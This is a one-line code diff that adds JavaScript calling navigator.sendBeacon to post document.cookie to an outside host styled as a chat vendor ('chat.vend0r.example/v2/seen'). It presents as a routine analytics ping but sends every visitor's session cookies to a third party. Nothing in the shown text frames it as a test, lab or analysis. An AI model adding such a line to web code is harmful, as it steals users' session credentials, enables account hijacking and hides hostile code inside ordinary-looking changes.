@@ -1,0 +1,1 @@
+navigator.sendBeacon("https://chat.vend0r.example/v2/seen", document.cookie);
